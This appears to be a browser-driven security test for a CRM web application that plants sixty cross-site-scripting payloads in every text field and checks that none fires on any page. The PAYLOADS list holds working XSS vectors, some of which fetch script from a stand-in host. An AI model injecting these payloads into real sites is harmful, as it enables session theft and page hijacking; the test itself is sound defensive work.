"""Cross-site scripting in a real browser: words that are scripts stand in every text field, and none of them runs.

    python -m tests.prove.scripting [--every N] [--entity NAME]

Sixty payloads: for each kind of record there are sixty rows, in whose text fields they go round, so that each payload
stands once in each field. Chromium then opens every place where such words come out: lists, sheets, forms, history, how
it stood, boards, searches, pickers, timelines, what is printed on invoices, previews of bulk work, exports and imports,
merging, the trash, the ledger, messages of errors and of what was done. It is told to pay our Content-Security-Policy
no heed: what is proven is that nothing is ever a script, not that the browser would stop it.

A payload has fired when it calls `alert` or its kin, asks for its own address, becomes an element of the page, or the
address of a link, form or frame that is a script. Where `chromium-headless-shell` is installed it is used: the same
engine, without the windows that nobody looks at, at half the work.
"""

import argparse
import platform
import shutil
import sqlite3
import sys
import tempfile
import time
from collections import Counter
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from urllib.parse import parse_qsl, quote, urlencode, urlsplit

from playwright.sync_api import sync_playwright
from sqlalchemy import String, select

from app import access, models, security
from app.documents.invoice import invoice_html
from app.models import ENTITIES
from tests import databases, factories
from tests.browser.house import CHROMIUM, CHROMIUM_ARGUMENTS, served

# Each carries `data-xss`, by which it is known should it ever become an element.
PAYLOADS = (
    "<script data-xss>alert(1)</script>",
    "<ScRiPt data-xss>alert(1)</sCrIpT>",
    "<script data-xss src=//xss.invalid/x.js></script>",
    "<img data-xss src=x onerror=alert(1)>",
    "<img data-xss src=x oneonerrorrror=alert(1) onerror=alert(1)>",
    "<svg data-xss onload=alert(1)>",
    "<svg><script data-xss>alert(1)</script></svg>",
    "<svg><animate data-xss onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a data-xss xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<body data-xss onload=alert(1)>",
    "<iframe data-xss src=javascript:alert(1)></iframe>",
    "<iframe data-xss srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data-xss data=javascript:alert(1)></object>",
    "<embed data-xss src=javascript:alert(1)>",
    "<a data-xss href=javascript:alert(1)>x</a>",
    "<a data-xss href='java\tscript:alert(1)'>x</a>",
    "<form data-xss action=javascript:alert(1)><button autofocus>x</button></form>",
    "<button data-xss formaction=javascript:alert(1)>x</button>",
    "<input data-xss autofocus onfocus=alert(1)>",
    "<select data-xss autofocus onfocus=alert(1)></select>",
    "<textarea data-xss autofocus onfocus=alert(1)></textarea>",
    "<details data-xss open ontoggle=alert(1)></details>",
    "<video data-xss><source onerror=alert(1)></video>",
    "<audio data-xss src=x onerror=alert(1)></audio>",
    "<marquee data-xss onstart=alert(1)>x</marquee>",
    "<meta data-xss http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base data-xss href=//xss.invalid/>",
    "<link data-xss rel=stylesheet href=//xss.invalid/x.css>",
    "<style data-xss>@import '//xss.invalid/x.css';</style>",
    "<style data-xss onload=alert(1)></style>",
    "<math><mtext><table><mglyph><style><img data-xss src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img data-xss src=x onerror=alert(1)>'>",
    "<template><script data-xss>alert(1)</script></template><img data-xss src=x onerror=alert(1)>",
    '"><script data-xss>alert(1)</script>',
    "'><script data-xss>alert(1)</script>",
    '"><img data-xss src=x onerror=alert(1)>',
    "'><img data-xss src=x onerror=alert(1)>",
    '" autofocus onfocus=alert(1) data-xss="',
    "' autofocus onfocus=alert(1) data-xss='",
    '" onmouseover=alert(1) data-xss="',
    "x onclick=alert(1) data-xss=1",
    "</textarea><script data-xss>alert(1)</script>",
    "</title><script data-xss>alert(1)</script>",
    "</option></select><img data-xss src=x onerror=alert(1)>",
    "</script><script data-xss>alert(1)</script>",
    "</style><script data-xss>alert(1)</script>",
    "--><script data-xss>alert(1)</script>",
    "<!--><img data-xss src=x onerror=alert(1)>-->",
    "]]><script data-xss>alert(1)</script>",
    "javascript:alert(1)//data-xss",
    "JaVaScRiPt:alert(1)//data-xss",
    "data:text/html,<script data-xss>alert(1)</script>",
    '";alert(1);//data-xss',
    "';alert(1);//data-xss",
    "</script>`${alert(1)}`<b data-xss>",
    "{{constructor.constructor('alert(1)')()}}<b data-xss>",
    "{% raw %}<b data-xss onclick=alert(1)>{{ 7*7 }}",
    "%3Cscript data-xss%3Ealert(1)%3C/script%3E<b data-xss>",
    "&lt;script data-xss&gt;alert(1)&lt;/script&gt;<b data-xss>",
    "＜script data-xss＞alert(1)＜/script＞<b data-xss hx-on:load=alert(1) hx-get=//xss.invalid/>",
)
RECORDS = ("company", "contact", "deal", "ticket", "activity", "campaign", "invoice", "product")
PATHS = {
    "company": "companies",
    "contact": "contacts",
    "deal": "deals",
    "ticket": "tickets",
    "activity": "activities",
    "campaign": "campaigns",
    "invoice": "invoices",
    "product": "products",
    "tag": "tags",
    "department": "departments",
    "pipeline": "pipelines",
    "stage": "stages",
    "tax_rate": "tax-rates",
    "staff": "staff",
    "payment": "payments",
}
HEADS = ("head of sales", "head of support", "head of marketing", "head of finance")
# Texts that are keys or follow a form of their own in the table itself.
NOT_WRITTEN = {"currency", "sha256", "media_type", "language", "number", "lost_reason"}
WATCH = """
window.fired = [];
for (const name of ["alert", "confirm", "prompt"]) window[name] = (said) => window.fired.push(name + " " + said);
"""
ELEMENTS = "() => [...document.querySelectorAll('[data-xss]')].map(one => one.outerHTML.slice(0, 80))"
# All that is asked of a page, in one question: what fired, what became an element or the address of a script, and
# whether payloads stand on it at all.
LOOK = f"""() => {{
    const scripts = [];
    for (const one of document.querySelectorAll("*"))
        for (const {{name, value}} of one.attributes)
            if (/^(xlink:)?(href|src|action|formaction|data)$/.test(name) &&
                /^(javascript|data:text)/i.test(value.replace(/[^!-~]/g, "")))
                scripts.push(one.outerHTML.slice(0, 80));
    const text = document.documentElement.outerHTML;
    const held = text.includes("data-xss") || text.includes("alert(1)");
    return {{fired: window.fired || [], elements: ({ELEMENTS})(), scripts, held}};
}}"""
SHELL = shutil.which("chromium-headless-shell") or CHROMIUM
WIDE = {"width": 1600, "height": 900}


@dataclass(frozen=True)
class Size:
    """Every n-th payload, these kinds of records, and every n-th page of a single record."""

    every: int = 1
    records: tuple = RECORDS
    pages: int = 1


FULL, QUICK = Size(), Size(every=25, records=("contact", "ticket"), pages=4)


@dataclass
class Outcome:
    """What was opened, by place; `fired` is everything that ran, or became an element."""

    payloads: int = 0
    fields: int = 0
    opened: Counter = field(default_factory=Counter)
    held: int = 0  # payloads found as text on the pages: they were really there
    refused: Counter = field(
        default_factory=Counter
    )  # pages that the reader may not open, or that are not there
    offered: int = 0  # records that link fields offered while payloads were typed
    fired: list = field(default_factory=list)
    seconds: float = 0.0
    versions: str = ""


class House:
    """The demo company with payloads in all its text fields."""

    def __init__(self, app, size):
        self.app, self.size = app, size
        self.payloads = PAYLOADS[:: size.every]
        self.ids, self.fields = {}, set()
        with app.app_context(), access.system_session("scripting", door="command") as session:
            self.owner = session.scalar(select(security.User.id).filter_by(username="head.sales"))
            self.home = session.get(models.Staff, self.owner).department_id
            security.set_roles(
                session, self.owner, HEADS
            )  # or the forms of half of the records would be shut
            for turn in range(len(self.payloads)):
                self._rows(session, turn)
        with app.app_context(), access.system_session("scripting, edited", door="command") as session:
            for entity in size.records:
                for turn, key in enumerate(self.ids[entity]):
                    self._edit(session, entity, key, turn)
        self._delete_one()

    def _texts(self, entity, turn):
        """Column -> payload: they go round, so that with as many rows as payloads each stands once in each field."""
        found = {}
        for place, column in enumerate(ENTITIES[entity].__table__.c):
            is_text = isinstance(column.type, String) and "choices" not in column.info
            if is_text and column.name not in NOT_WRITTEN and not column.info.get("currency"):
                text = self.payloads[(turn + place) % len(self.payloads)]
                most = getattr(column.type, "length", None)
                if most and len(text) > most:
                    continue
                self.fields.add((entity, column.name))
                found[column.name] = f"{text} {turn}"[:most] if column.unique else text
        return found

    def _rows(self, session, turn):
        whose = {"department_id": self.home, "owner_id": self.owner}
        company = self._make(session, "company", turn, kind="customer", **whose)
        contact = self._make(session, "contact", turn, company_id=company.id, **whose)
        links = {"company_id": company.id, "contact_id": contact.id}
        made = {"company": company, "contact": contact}
        if self._wants("deal"):
            deal = self._make(session, "deal", turn, **links, **whose)
            product = self._make(session, "product", turn, price=1)
            self._make(
                session, "deal_line", turn, deal_id=deal.id, product_id=product.id, unit_price=1, net=1
            )
            made |= {"deal": deal, "product": product}
        ticket = self._make(session, "ticket", turn, **links, **whose)
        self._make(session, "ticket_message", turn, ticket_id=ticket.id)
        activity = self._make(session, "activity", turn, **links, ticket_id=ticket.id, kind="task", **whose)
        made |= {"ticket": ticket, "activity": activity}
        if self._wants("campaign"):
            made["campaign"] = self._make(session, "campaign", turn, **whose)
            member = models.CampaignMember(campaign_id=made["campaign"].id, contact_id=contact.id)
            session.add(member)
        if self._wants("invoice"):
            texts = self._texts("invoice", turn)
            invoice = models.Invoice(
                company_id=company.id, currency="EUR", net=1, tax=0, gross=1, **texts, **whose
            )
            session.add(invoice)
            session.flush()
            self._make(session, "invoice_line", turn, invoice_id=invoice.id, unit_price=1, net=1)
            made["invoice"] = invoice
        tag = self._make(session, "tag", turn)
        if turn < 3:  # a few suffice: they stand on every sheet and form
            field_ = models.CustomField(
                entity="contact",
                kind="text",
                name=f"xss_{turn}",
                labels={"en": self.payloads[turn]},
                position=turn,
            )
            session.add(field_)
        session.flush()
        for entity, row in made.items():
            if entity in ("company", "contact", "deal", "ticket", "activity", "campaign"):
                session.add(models.Tagging(tag_id=tag.id, entity=entity, record_id=row.id))
            if entity in ("company", "contact", "deal", "ticket", "campaign"):
                texts = {"reason": self.payloads[turn]}
                session.add(models.Share(entity=entity, record_id=row.id, to_department_id=1, **texts))
            self.ids.setdefault(entity, []).append(row.id)
        if turn:
            for entity in ("company", "contact"):
                one, other = self.ids[entity][-2:]
                pair = {
                    "entity": entity,
                    "one_id": one,
                    "other_id": other,
                    "score": 90,
                    "found_at": datetime.now(UTC),
                }
                session.add(models.DuplicatePair(**pair))
        session.flush()

    def _wants(self, entity):
        return entity in self.size.records or self.size.every == 1

    def _make(self, session, entity, turn, **values):
        return factories.make(session, entity, **{**self._texts(entity, turn), **values})

    def _edit(self, session, entity, key, turn):
        """History tells of each field: the next payload takes its place."""
        row = session.get(ENTITIES[entity], key)
        for name, text in self._texts(entity, turn + 1).items():
            setattr(row, name, text)

    def _delete_one(self):
        """One of each lies in the trash, under a reason that is a payload."""
        with self.app.app_context(), access.system_session(self.payloads[0], door="command") as session:
            row = factories.make(session, "ticket", **self._texts("ticket", 0), department_id=self.home)
            session.flush()
            session.delete(row)

    def papers(self):
        """The pages that become the PDFs of the invoices, which are issued for it."""
        today = datetime.now(UTC).date()
        with self.app.app_context(), access.system_session("scripting, issued", door="command") as session:
            for key in self.ids.get("invoice", ()):
                row = session.get(models.Invoice, key)
                row.number, row.issued_by_id = f"XSS-{key}", self.owner
                row.issued_on = row.due_on = today
                session.flush()
                yield invoice_html(row)


class Reader:
    """Chromium, which opens one place after the other and listens whether anything fires."""

    def __init__(self, context, address, house, outcome):
        self.context, self.address, self.house, self.outcome = context, address, house, outcome
        self.page = context.new_page()
        self.page.on("dialog", self._dialog)
        context.on("request", self._request)
        self.where = ""

    def _dialog(self, dialog):
        self.outcome.fired.append(f"{self.where}: a dialog: {dialog.message}")
        dialog.dismiss()

    def _request(self, request):
        if urlsplit(request.url).hostname == "xss.invalid":  # in a query of ours it may well stand
            self.outcome.fired.append(f"{self.where}: asked for {request.url}")

    def open(self, place, path):
        """Open an address, let its scripts do their work, and look."""
        self.where = f"{place} {path[:90]}"
        answer = self.page.goto(self.address + path, wait_until="load")
        if answer is not None and answer.status >= 500:
            self.outcome.fired.append(f"{self.where} answers {answer.status}")
        self.outcome.refused[place] += answer is not None and answer.status in (403, 404)
        self.look(place)

    def look(self, place):
        """Whether anything has fired on the page that is open."""
        self.outcome.opened[place] += 1
        seen = self.page.evaluate(LOOK)
        self.outcome.fired += [f"{self.where}: {one}" for one in seen["fired"]]
        self.outcome.fired += [f"{self.where}: an element {one}" for one in seen["elements"]]
        self.outcome.fired += [f"{self.where}: an address {one}" for one in seen["scripts"]]
        self.outcome.held += seen["held"]

    # ---- the places

    def everywhere(self):
        size = self.house.size
        for entity in size.records:
            self.lists(entity)
            for turn, key in enumerate(self.house.ids[entity]):
                self.record(entity, key, turn)
        self.house_pages()
        self.boards()
        self.pickers()
        self.palette()
        self.parts()
        self.errors()
        self.deeds()
        self.imports()
        self.papers()

    def lists(self, entity):
        path, payloads = f"/{PATHS[entity]}/", self.house.payloads
        self.open("list", f"{path}?size=200&sort=-id")
        for payload in payloads:
            self.open("search", f"{path}?q={quote(payload)}")
        name = {
            "ticket": "subject",
            "activity": "subject",
            "contact": "last_name",
            "invoice": "billed_to",
        }.get(entity, "name")
        turn, turns = self.house.size.records.index(entity), len(self.house.size.records)
        for payload in payloads[turn::turns]:  # each in one of the lists
            self.open("filter", f"{path}?{name}.has={quote(payload)}")
        for deed in ("edit", "delete", "tag", "export", "share"):
            ids = "&".join(f"id={key}" for key in self.house.ids[entity])
            self.open("bulk and export preview", f"{path}bulk?deed={deed}&{ids}")

    def record(self, entity, key, turn):
        path = f"/{PATHS[entity]}/{key}"
        places = [
            ("sheet and timeline", path),
            ("history", f"{path}/history"),
            ("as it stood", f"{path}/as-of"),
        ]
        if entity != "invoice":
            places.append(("form", f"{path}/edit"))
        if entity in ("company", "contact", "deal", "ticket", "campaign"):
            places.append(("sharing", f"{path}/share"))
        for number, (place, address) in enumerate(places):
            if (turn + number) % self.house.size.pages == 0:
                self.open(place, address)
        self._fire_by_hand()

    def _fire_by_hand(self):
        """Point at everything and click what has no address of ours: some only fire when they are touched."""
        self.page.evaluate(
            "() => document.querySelectorAll('main a, main [title], main input').forEach(one => {"
            " one.dispatchEvent(new MouseEvent('mouseover', {bubbles: true})); one.focus && one.focus();"
            " const href = (one.getAttribute('href') || '').trim().toLowerCase();"
            " if (href.startsWith('javascript:')) window.fired.push(href)})"
        )
        self.outcome.fired += [f"{self.where}: {one}" for one in self.page.evaluate("() => window.fired")]

    def house_pages(self):
        for path in ("/", "/trash/", "/changes/", "/tags/?size=200", "/duplicates/?entity=contact"):
            self.open("the house's pages", path)
        for path in ("/duplicates/?entity=company", "/custom-fields/", "/jobs/", "/reads/", "/approvals/"):
            self.open("the house's pages", path)
        for entity in ("contact", "company"):
            for one, other in zip(self.house.ids[entity], self.house.ids[entity][1:], strict=False):
                if one % self.house.size.pages == 0:
                    self.open("merging", f"/duplicates/merge?entity={entity}&ids={one},{other}")

    def boards(self):
        for entity in ("deal", "ticket"):
            if entity in self.house.ids:
                self.open("board", f"/{PATHS[entity]}/board")

    def pickers(self):
        """What a link field offers while one types, in the form as it is used."""
        self.open("picker", "/contacts/new")
        box = self.page.locator("input[data-pick^='/companies/'] + .ts-wrapper input")
        box.click()
        for payload in self.house.payloads:
            with self.page.expect_response(lambda answer, asked=payload: _asked(answer.url) == asked):
                box.fill(payload)
            self.page.wait_for_selector(".ts-wrapper:not(.loading)")
            self.where = f"picker, {payload}"
            self.look("picker")
            self.outcome.offered += self.page.locator(".ts-dropdown .option").count()
        self.page.locator(".ts-dropdown .option").first.click()
        self.look("picker")
        for payload in self.house.payloads:
            answer = self.context.request.get(f"{self.address}/companies/pick?{urlencode({'q': payload})}")
            if not answer.headers["content-type"].startswith("application/json"):
                self.outcome.fired.append(f"a picker answers {answer.headers['content-type']}")
            self.outcome.opened["picker's answer"] += 1

    def palette(self):
        """What is found above any page while one types."""
        self.open("palette", "/contacts/")
        self.page.keyboard.press("Control+k")
        for payload in self.house.payloads:
            self.page.fill("#palette input", payload)
            self.page.wait_for_function(
                "asked => document.querySelector('#palette').dataset.found === asked", arg=payload
            )
            self.where = f"palette, {payload}"
            self.look("palette")

    def parts(self):
        """What the pages' own scripts fetch and put into them, one part after the other into the same page."""
        self.open("part", "/contacts/")
        for place, address in self._parts():
            self.where = f"{place} {address[:90]}"
            with self.page.expect_response(
                lambda one, asked=self.address + address: one.url == asked
            ) as answer:
                self.page.evaluate(
                    "href => htmx.ajax('GET', href, {target: 'main', swap: 'innerHTML'})", address
                )
            self.outcome.refused[place] += answer.value.status in (
                403,
                404,
            )  # not every field is changed by itself
            if answer.value.status >= 500:
                self.outcome.fired.append(f"{self.where} answers {answer.value.status}")
            self.look(place)

    def _parts(self):
        for entity in self.house.size.records:
            names = [name for of, name in sorted(self.house.fields) if of == entity and entity != "invoice"]
            for turn, key in enumerate(self.house.ids[entity]):
                for name in names[turn % self.house.size.pages :: self.house.size.pages]:
                    yield "value where it stands", f"/{PATHS[entity]}/{key}/values/{name}"
        for turn in range(0, len(self.house.payloads), self.house.size.pages):
            payload, key = self.house.payloads[turn], self.house.ids["company"][turn]
            said = quote(payload, safe="")
            for entity, name in (("company", "name"), ("contact", "last_name"), ("contact", "email")):
                yield "look-alikes", f"/{PATHS[entity]}/look-alikes?{name}={said}&left={name}"
            for name in ("contacts", "deals", "tickets"):
                yield "related", f"/companies/{key}/related/{name}?q={quote(payload[:5])}"

    def errors(self):
        """Sentences that repeat what was asked for."""
        for payload in self.house.payloads:
            said = quote(payload, safe="")
            for path in (
                f"/companies/?sort={said}",
                f"/companies/?name.like={said}",
                f"/companies/?created_at.min={said}",
                f"/reports/sales?period={said}",
                f"/changes/?on={said}",
                f"/contacts/?q=name:{said}",
            )[:: self.house.size.pages]:
                self.open("error message", path)
            self.open("error message", f"/nothing/{said}")

    def deeds(self):
        """What was typed comes back on the form, and what was done is said."""
        for payload in self.house.payloads:
            self.open("form", "/companies/new")
            self.page.fill("main [name=name]", payload)
            self._send("flash message")
            self.open("form", "/contacts/new")
            self.page.fill("main [name=last_name]", payload)
            self.page.fill("main [name=email]", payload)  # no address: it is refused, and stands there again
            self._send("refused form")

    def _send(self, place):
        with self.page.expect_navigation():
            self.page.locator(
                "main form[method=post] button[type=submit], main form[method=post] button:not([type])"
            ).last.click()
        self.where = f"{place} at {self.page.url[-60:]}"
        self.look(place)

    def imports(self):
        """A file whose name, headings and cells are payloads, up to the plan of what would become of each row."""
        lines = ["last_name,email," + _cell(self.house.payloads[0])]
        lines += [f"{_cell(one)},{_cell(one)},{_cell(one)}" for one in self.house.payloads]
        self.open("import", "/imports/?entity=contact")
        with tempfile.TemporaryDirectory() as folder:
            path = Path(folder) / "<img data-xss src=x onerror=alert(1)>.csv"
            path.write_text("\n".join(lines) + "\n", "utf-8")
            self.page.set_input_files("[name=file]", str(path))
            if self.page.locator("select[name=entity]").count():
                self.page.select_option("[name=entity]", "contact")
            self._send("import preview")
        columns = self.page.locator("main form[method=post]")
        if columns.count():
            with self.page.expect_navigation():
                self.page.locator("button[value=check]").click()
            self.where = "import plan"
            self.look("import preview")

    def papers(self):
        """What is printed on invoices: the very page that becomes the PDF, in the browser."""
        for page in list(self.house.papers()):  # read to the end first: the transaction is over then
            self.where = "an invoice's paper"
            self.page.set_content(page if isinstance(page, str) else page.decode())
            self.look("paper")


def _asked(address):
    """The words that a request looks for; None: it looks for none."""
    return dict(parse_qsl(urlsplit(address).query)).get("q")


def _cell(text):
    return '"' + text.replace('"', '""') + '"'


@contextmanager
def _browser(given=None):
    """The browser that is open already, or one of its own."""
    if given is not None:
        yield given
        return
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=SHELL, args=CHROMIUM_ARGUMENTS)
        yield browser
        browser.close()


def prove(size, chromium=None):
    """Plant, serve, open: what was opened, and what fired."""
    outcome, started = Outcome(), time.monotonic()
    with (
        databases.fresh_database("sqlite", "demo") as database,
        tempfile.TemporaryDirectory() as home,
        databases.app_on(database) as app,
    ):
        house = House(app, size)
        outcome.payloads, outcome.fields = len(house.payloads), len(house.fields)
        with served(database.url, Path(home)) as address, _browser(chromium) as browser:
            outcome.versions = f"Chromium {browser.version}, SQLite {sqlite3.sqlite_version}"
            context = browser.new_context(viewport=WIDE, bypass_csp=True)
            context.add_init_script(WATCH)
            reader = Reader(context, address, house, outcome)
            _sign_in(reader, "head.sales")
            reader.everywhere()
            context.close()
    outcome.seconds = time.monotonic() - started
    return outcome


def _sign_in(reader, username):
    reader.page.goto(reader.address + "/login/")
    reader.page.fill("[name=username]", username)
    reader.page.fill("[name=password]", security.DEMO_PASSWORD)
    with reader.page.expect_navigation():
        reader.page.locator("main button[type=submit], main form button").first.click()


def table(outcome):
    """The outcome as one table that can be read in a report."""
    pages = sum(outcome.opened.values())
    lines = [
        f"{outcome.payloads} payloads in {outcome.fields} text fields, {pages:,} pages, {len(outcome.fired)} fired"
    ]
    for place, number in sorted(outcome.opened.items()):
        refused = f", {outcome.refused[place]:,} of them refused" if outcome.refused[place] else ""
        lines.append(f"  {place:<26} {number:>6,}{refused}")
    lines.append(
        f"pages on which payloads stood as text: {outcome.held:,}; offered by link fields: {outcome.offered}"
    )
    lines.append(f"{outcome.seconds:.0f} seconds")
    lines.append(f"{outcome.versions}, Python {platform.python_version()}")
    return "\n".join([*lines, *outcome.fired[:100]])


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--every", type=int, default=1, help="every n-th payload only")
    parser.add_argument("--entity", choices=RECORDS, help="only this kind of record")
    parser.add_argument("--pages", type=int, default=1, help="of the pages of single records every n-th only")
    args = parser.parse_args()
    folder = databases.start_run()
    try:
        records = (args.entity,) if args.entity else RECORDS
        outcome = prove(Size(args.every, records, args.pages))
    finally:
        databases.end_run(folder)
    print(table(outcome))
    return 1 if outcome.fired else 0


if __name__ == "__main__":
    sys.exit(main())
